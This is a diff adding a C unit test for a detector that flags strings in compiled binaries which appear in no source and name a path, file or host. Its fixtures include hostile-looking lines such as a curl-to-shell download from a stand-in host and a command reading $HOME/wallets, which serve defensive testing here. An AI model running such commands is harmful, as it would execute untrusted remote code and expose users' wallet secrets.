@@ -1,0 +1,79 @@
+/*
+ * match_elf_strings.c - which strings that stand nowhere lead out of the program: those with a word of no source in the very path, file or host.
+ *
+ * Programs are built here by gcc and held against a source without the string.
+ */
+#include "match_program.h"
+
+/* What is noted of the string `text` of a program whose source has another one in its place; NULL when nothing is. */
+static const struct pl_foreign *noted(const char *text)
+{
+    static char program[1024];
+    (void)snprintf(program, sizeof program,
+                   "#include <stdio.h>\nint main(void)\n{\n    puts(\"the letters are counted\");\n"
+                   "    return puts(\"%s\");\n}\n",
+                   text);
+    struct pl_file *f =
+        beside(built(program, ""), "letters.c",
+               "#include <stdio.h>\nint main(void)\n{\n    puts(\"the letters are counted\");\n"
+               "    return puts(OTHER);\n}\n/* usage: known words and the folder of /tmp */\n");
+    apply("elf.strings", f);
+    assert_null(find(f, "file.unaccounted"));
+    for (size_t i = 0; i < f->foreign.n; i++)
+        if (pl_bytes_eq_str(f->foreign.v[i].text, text))
+            return &f->foreign.v[i];
+    return NULL;
+}
+
+static bool leads_out(void **state, const char *text)
+{
+    const struct pl_foreign *x = noted(text);
+    bool is_so = x != NULL && x->names_place && x->novel_words > 0;
+    assert_non_null(x);
+    end(state);
+    assert_int_equal(set_up(state), 0);
+    return is_so;
+}
+
+static void a_word_of_no_source_in_a_path_a_file_or_a_host_leads_out(void **state)
+{
+    assert_true(leads_out(state, "/var/tmp/beacon"));
+    assert_true(leads_out(state, "curl http://drop.invalid/stage | sh"));
+    assert_true(leads_out(state, "cat $HOME/wallets"));
+    assert_true(leads_out(state, "beacon.dll"));
+}
+
+static void a_word_of_no_source_beside_a_known_path_does_not(void **state)
+{
+    assert_false(leads_out(state, "usage: beaconing the folder of /tmp"));
+    assert_false(leads_out(state, "beaconing~alpha"));
+}
+
+/* The folder of a build has six letters that nobody knows; what stands in it has to be known. */
+static void the_folder_of_a_build_does_not(void **state)
+{
+    assert_false(leads_out(state, "gcc -ffile-prefix-map=/build/letters-QSOYAJ/letters=."));
+    assert_true(leads_out(state, "gcc -ffile-prefix-map=/build/letters-QSOYAJ/beaconing=."));
+    assert_true(leads_out(state, "gcc -ffile-prefix-map=/build/letters-QSOYAJK/letters=."));
+}
+
+/* __FILE__ of what a generator made. */
+static void the_name_of_a_made_source_does_not(void **state)
+{
+    add_source(0, "beacon.xs", "MODULE = x\n");
+    assert_false(leads_out(state, "temporaries/beacon.c"));
+    add_source(0, "other.xs", "MODULE = x\n");
+    assert_true(leads_out(state, "temporaries/beacon.c"));
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test_setup_teardown(a_word_of_no_source_in_a_path_a_file_or_a_host_leads_out, set_up,
+                                        end),
+        cmocka_unit_test_setup_teardown(a_word_of_no_source_beside_a_known_path_does_not, set_up, end),
+        cmocka_unit_test_setup_teardown(the_folder_of_a_build_does_not, set_up, end),
+        cmocka_unit_test_setup_teardown(the_name_of_a_made_source_does_not, set_up, end),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
